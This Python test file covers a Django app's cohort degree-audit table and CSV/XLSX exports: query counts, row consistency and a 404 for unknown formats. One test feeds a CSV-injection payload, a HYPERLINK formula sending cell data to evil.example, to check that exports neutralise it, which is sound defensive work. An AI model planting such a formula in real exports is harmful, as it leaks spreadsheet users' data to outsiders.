"""The cohort table and its exports: fixed query counts, and rows that match the audits."""

import csv
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from fellowship.curriculum import selectors
from fellowship.curriculum.models import Enrollment
from tests import factories as f

from .helpers import catalog_for, curriculum_for

pytestmark = pytest.mark.django_db


def add_fellows(world, n):
    courses = catalog_for(world.program)
    for i in range(n):
        fellow = f.FellowFactory(program=world.program, cohort_year=2025)
        for code, status, grade in [
            ("BMI 701", "completed", "A"),
            ("BMI 702", "failed" if i % 2 else "completed", "F" if i % 2 else "B"),
            ("BMI 710", "planned", ""),
        ]:
            Enrollment.objects.create(
                fellow=fellow, course=courses[code], term_year=2025 + (code == "BMI 710"),
                term_season="fall", status=status, grade=grade,
            )  # fmt: skip


def count(client, url, params):
    with CaptureQueriesContext(connection) as queries:
        response = client.get(url, params)
    assert response.status_code == 200
    return len(queries), response


URLS = [
    ("curriculum:cohort", {}),
    ("curriculum:cohort_export", {"format": "csv"}),
    ("curriculum:cohort_export", {"format": "xlsx"}),
    ("curriculum:mentees", {}),
]


@pytest.mark.parametrize(("name", "extra"), URLS)
def test_query_count_does_not_grow_with_fellows(client, world, name, extra):
    curriculum_for(world)
    client.force_login(world.coordinator if name != "curriculum:mentees" else world.mentor)
    url = reverse(name, kwargs={"program": world.program.slug, **extra})
    few, _ = count(client, url, {"cohort": 2025})
    add_fellows(world, 12)
    for fellow in world.program.fellows.exclude(pk=world.fellow_record.pk):
        f.MentorshipFactory(fellow=fellow, faculty=world.mentor_faculty, kind="secondary")
    many, response = count(client, url, {"cohort": 2025})
    assert many == few, (name, few, many)
    if name == "curriculum:cohort":
        assert response.content.decode().count('class="badge badge-audit-') == 14


def test_the_audit_selector_is_four_queries(world, django_assert_num_queries):
    curriculum_for(world)
    add_fellows(world, 5)
    fellows = list(selectors.cohort_fellows(world.program, 2025))
    with django_assert_num_queries(4):
        audits = selectors.fellow_audits(world.program, fellows)
    assert len(audits) == 7


def test_exports_match_the_audits(client, world):
    curriculum_for(world)
    add_fellows(world, 3)
    client.force_login(world.director)
    expected = []
    for fellow in selectors.cohort_fellows(world.program, 2025):
        one = selectors.fellow_audit(fellow)  # each fellow audited on their own
        expected.append(
            [fellow.sort_name, one.result.version, one.result.credits_earned_total,
             "; ".join(one.lacks) or "Nothing", one.plan_text]
        )  # fmt: skip
    url = lambda fmt: reverse(  # noqa: E731
        "curriculum:cohort_export", kwargs={"program": world.program.slug, "format": fmt}
    )
    response = client.get(url("csv"), {"cohort": 2025})
    assert response["Content-Disposition"].endswith('-cohort-2025-degree-audit.csv"')
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0] == selectors.EXPORT_HEADER
    got = [[r[0], r[4], float(r[5]), r[10], r[11]] for r in rows[1:]]
    assert got == [[e[0], e[1], float(e[2]), e[3], e[4]] for e in expected]

    response = client.get(url("xlsx"), {"cohort": 2025})
    sheet = load_workbook(io.BytesIO(response.content)).active
    values = list(sheet.iter_rows(values_only=True))
    assert list(values[0]) == selectors.EXPORT_HEADER
    got = [[r[0], r[4], float(r[5]), r[10], r[11]] for r in values[1:]]
    assert got == [[e[0], e[1], float(e[2]), e[3], e[4]] for e in expected]
    # The page shows the same lacks.
    page = client.get(
        reverse("curriculum:cohort", kwargs={"program": world.program.slug}), {"cohort": 2025}
    ).content.decode()
    for e in expected:
        for lack in e[3].split("; "):
            assert lack in page


def test_unknown_export_format_is_404(client, world):
    client.force_login(world.director)
    url = reverse(
        "curriculum:cohort_export", kwargs={"program": world.program.slug, "format": "pdf"}
    )
    assert client.get(url).status_code == 404


def test_exports_quote_a_name_that_is_a_formula(client, world):
    """OWASP's CSV-injection rule: the name stays text; the numbers stay numbers."""
    hostile = '=HYPERLINK("http://evil.example/?d="&B2,"Open")'
    curriculum_for(world)
    add_fellows(world, 1)
    fellow = selectors.cohort_fellows(world.program, 2025)[0]
    fellow.last_name = hostile
    fellow.save()
    client.force_login(world.director)
    url = lambda fmt: reverse(  # noqa: E731
        "curriculum:cohort_export", kwargs={"program": world.program.slug, "format": fmt}
    )
    rows = list(csv.reader(io.StringIO(
        client.get(url("csv"), {"cohort": 2025}).content.decode("utf-8-sig")
    )))  # fmt: skip
    assert rows[1][0].startswith("'" + hostile)

    sheet = load_workbook(io.BytesIO(client.get(url("xlsx"), {"cohort": 2025}).content)).active
    name, credits = sheet.cell(2, 1), sheet.cell(2, 6)
    assert name.data_type == "s" and name.value.startswith("'" + hostile)
    assert credits.data_type == "n"
